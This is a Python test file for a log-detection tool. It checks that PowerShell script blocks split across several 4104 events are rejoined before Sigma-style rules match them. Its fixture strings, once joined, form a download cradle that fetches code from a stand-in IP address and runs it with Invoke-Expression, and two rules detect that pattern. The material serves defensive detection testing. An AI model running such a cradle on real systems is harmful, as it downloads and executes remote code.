"""PowerShell script blocks logged in parts (4104, MessageNumber of MessageTotal): rules see
each block whole, once, as the event of its first part."""

from __future__ import annotations

import json

from threatscope.detect import run_detect
from threatscope.ingest import ingest_paths
from threatscope.workspace import Workspace

BLOCK_A = "{6a1b2c3d-0000-4000-8000-00000000000a}"
BLOCK_B = "{6a1b2c3d-0000-4000-8000-00000000000b}"


def _part(record: int, block: str, n: int, total: int, text: str, second: int = 0) -> str:
    return json.dumps({"Event": {"System": {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-PowerShell"}}, "EventID": 4104,
        "EventRecordID": record, "Channel": "Microsoft-Windows-PowerShell/Operational",
        "Computer": "WS01",
        "TimeCreated": {"#attributes": {"SystemTime": f"2018-05-12T10:00:{second:02d}Z"}}},
        "EventData": {"MessageNumber": n, "MessageTotal": total, "ScriptBlockText": text,
                      "ScriptBlockId": block, "Path": ""}}})


RULES = """
title: Invoke-Expression in a script block
id: 00000000-0000-4000-8000-0000000b0001
status: test
logsource: {product: windows, category: ps_script}
detection:
  sel: {ScriptBlockText|contains: 'Invoke-Expression'}
  condition: sel
---
title: Download cradle in a script block
id: 00000000-0000-4000-8000-0000000b0002
status: test
logsource: {product: windows, category: ps_script}
detection:
  sel: {ScriptBlockText|contains|all: ['Net.WebClient', 'DownloadString']}
  condition: sel
"""


def test_rules_see_script_blocks_whole(tmp_path):
    ws = Workspace.open(tmp_path / "ws", create=True)
    # block A in three parts over two files, out of order; the rules' strings span parts
    first = [_part(1, BLOCK_A, 1, 3, "$c = New-Object Net.WebC", 1),
             _part(2, BLOCK_A, 3, 3, "ring('http://198.51.100.7/a')", 3),
             # block B: two parts that only look like the string when read apart
             _part(3, BLOCK_B, 1, 2, "Invoke-Exp", 4), _part(4, BLOCK_B, 2, 2, "ort-Csv x.csv", 5),
             # a block in one part
             _part(5, "{6a1b2c3d-0000-4000-8000-00000000000c}", 1, 1, "Invoke-Expression $x", 6)]
    second = [_part(6, BLOCK_A, 2, 3, "lient; Invoke-Expression $c.DownloadSt", 2)]
    for name, lines in (("a.json", first), ("b.json", second)):
        (tmp_path / name).write_text("\n".join(lines) + "\n")
        ingest_paths(ws, [str(tmp_path / name)], org="acme")
    # the same block id in another organisation is another block
    (tmp_path / "c.json").write_text(_part(1, BLOCK_A, 2, 2, "Invoke-Expression", 9) + "\n")
    ingest_paths(ws, [str(tmp_path / "c.json")], org="globex")
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "ps.yml").write_text(RULES)
    summary = run_detect(ws, rule_dirs=[rules])
    with ws.connect() as con:
        hits = con.execute(
            "SELECT right(rule_id, 1), org_id, source_file, source_line, evidence "
            "FROM detection WHERE rule_id LIKE '00000000-%' ORDER BY ALL").fetchall()
    got = [(r, org, f.rsplit("/", 1)[-1], line) for r, org, f, line, _ in hits]
    assert got == [
        ("1", "acme", "a.json", 1),     # block A, as its first part
        ("1", "acme", "a.json", 5),     # the one-part block
        ("1", "globex", "c.json", 1),   # globex's part of "its" block A
        ("2", "acme", "a.json", 1),
    ]
    # evidence of a joined block: its text
    evidence = hits[0][4]
    assert evidence.startswith("$c = New-Object Net.WebClient; Invoke-Expression $c.Download")
    assert summary.events_scanned["ps_script"] == 7  # events, not events + joined blocks
